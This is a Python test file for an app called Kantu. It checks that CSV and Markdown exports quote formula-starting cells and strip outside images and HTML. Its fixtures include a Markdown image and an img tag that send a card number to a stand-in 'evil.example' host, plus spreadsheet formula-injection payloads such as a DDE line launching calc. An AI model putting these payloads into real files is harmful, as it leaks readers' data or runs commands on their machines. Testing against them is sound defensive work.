"""What Kantu writes to files is as inert as what it shows (issue 19, item 9): spreadsheet
cells never start a formula, and the Markdown exports (Batch report, chat zip, Compare) hold no
outside image, no HTML and no link but to the web, read by the renderer's own parser."""

from __future__ import annotations

import csv
import io
import zipfile

import pytest

from components.batch.export import to_csv, to_markdown
from components.batch.job import BatchJob
from components.conversation.compare import CompareRun
from components.conversation.compare import export_markdown as compare_markdown
from components.conversation.exchange import AnswerMeta
from components.conversation.history import Conversation
from components.conversation.transfer import export_markdown as chat_markdown
from components.devtools.image_factory import photo_jpeg
from components.devtools.upstream import FakeUpstream, sse
from components.errors import AuthError
from components.images.prepare import prepare_image
from components.providers.client import ChatOptions
from components.providers.settings import resolve_settings
from components.text.cells import FORMULA_STARTS, csv_cell, markdown_cell
from components.usage import Usage
from tests.markdown_oracle import findings
from tests.test_batch import items_of, settings_for, spec

EVIL = "![](http://evil.example/leak?q=card-4242) <img src=http://evil.example/i.png>"
FORMULAS = ['=HYPERLINK("http://evil.example","x")', "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd"]


def outside_findings(markdown: str) -> list[str]:
    """What would load or run, Kantu's own pictures (data: URLs, files beside it) aside."""
    return findings(markdown, own_images=("data:image/", "images/"))


# --- cells ----------------------------------------------------------------------------------


@pytest.mark.parametrize("text", [*FORMULAS, "+1", "\t=1", "\r=1", "=", "-"])
def test_a_cell_that_would_start_a_formula_starts_with_a_quote(text):
    assert csv_cell(text) == "'" + text


@pytest.mark.parametrize("value", ["blue", "3|5", " =1", "'=1", "", 12, None, -3])
def test_other_cells_are_written_as_they_are(value):
    assert csv_cell(value) == value


def test_every_formula_start_is_covered():
    assert set(FORMULA_STARTS) == {"=", "+", "-", "@", "\t", "\r"}


def test_a_markdown_cell_is_one_literal_line():
    cell = markdown_cell(f"a | b\n\n{EVIL}\n`x`")
    assert "\n" not in cell and outside_findings(f"| h |\n|---|\n| {cell} |") == []
    assert cell.count(" / ") == 2 and "\\|" in cell


# --- Batch ------------------------------------------------------------------------------------


def test_batch_csv_and_report_keep_no_formula_image_or_html(upstream: FakeUpstream):
    upstream.default = sse([f'{{"name": "{FORMULAS[0].replace(chr(34), "")}", "note": "{EVIL}"}}'])
    columns = spec(columns=("name", "=cmd|x"))
    job = BatchJob(items_of([60]), columns).start(settings_for(upstream))
    assert job.wait(10)
    results = job.results()
    raw = to_csv(results, columns, "en").decode("utf-8-sig")
    cells = [cell for row in csv.reader(io.StringIO(raw)) for cell in row]
    assert not [c for c in cells if c.startswith(FORMULA_STARTS)], cells
    assert "'=HYPERLINK(http://evil.example,x)" in cells and "'=cmd|x" in cells

    upstream.default = sse([f"{EVIL}\n{FORMULAS[1]}"])
    plain = spec()
    job = BatchJob(items_of([61]), plain).start(settings_for(upstream))
    assert job.wait(10)
    results = job.results()
    raw = to_csv(results, plain, "en").decode("utf-8-sig")
    answers = [row["answer"] for row in csv.DictReader(io.StringIO(raw))]
    assert answers == [f"{EVIL}\n{FORMULAS[1]}"]  # starts with "!": kept as the model wrote it
    archive = zipfile.ZipFile(io.BytesIO(to_markdown(results, plain, "en")))
    report = archive.read("report.md").decode("utf-8")
    assert outside_findings(report) == []
    assert "](images/01-" in report  # the thumbnail, Kantu's own bytes beside the report


def test_every_answer_cell_is_inert_whatever_it_starts_with(upstream: FakeUpstream):
    upstream.default = sse([FORMULAS[2]])
    plain = spec()
    job = BatchJob(items_of([62]), plain).start(settings_for(upstream))
    assert job.wait(10)
    rows = list(csv.DictReader(io.StringIO(to_csv(job.results(), plain).decode("utf-8-sig"))))
    assert rows[0]["answer"] == "'" + FORMULAS[2]


# --- chat zip and Compare -------------------------------------------------------------------


def test_chat_markdown_zip_holds_no_outside_image_or_html():
    photo = prepare_image(photo_jpeg(320, 240), name=f"p]({EVIL}).jpg", model="gpt-4o")
    conv = Conversation()
    conv.add_user(f"look {EVIL}", [photo])
    conv.add_answer(f"```a`b\n{EVIL}\n```", meta=AnswerMeta("ok", "gpt-4o", usage=Usage(1, 1, 2)))
    conv.add_answer("", status="error", error=AuthError(f"bad key {EVIL}"))
    archive = zipfile.ZipFile(io.BytesIO(chat_markdown(conv, "en")))
    markdown = archive.read("conversation.md").decode("utf-8")
    assert outside_findings(markdown) == []
    assert "images/01-" in markdown  # the picture, linked to its own file


def test_compare_markdown_holds_no_outside_image_or_html(upstream: FakeUpstream):
    picture = prepare_image(photo_jpeg(320, 240), name=f"p]({EVIL}).jpg", model="gpt-4o")
    upstream.default = sse([f"[s](http://x/`){EVIL}` "], model="m1")
    models = [("custom", f"m1{EVIL}"), ("custom", "m2")]
    run = CompareRun.create(f"what {EVIL}", [picture], models)
    settings = resolve_settings(
        base_url=upstream.base_url, api_key="k", model="m1", max_retries=0, backoff_factor=0
    )
    for column in run.columns:
        column.start(run.turns(), settings, ChatOptions(max_tokens=50))
    for column in run.columns:
        assert column.exchange is not None and column.exchange.wait(10**9, 10)
    assert run.finished
    markdown = compare_markdown(run, {}, {}, "en")
    assert outside_findings(markdown) == []
    assert markdown.count("](data:image/jpeg;base64,") == 1
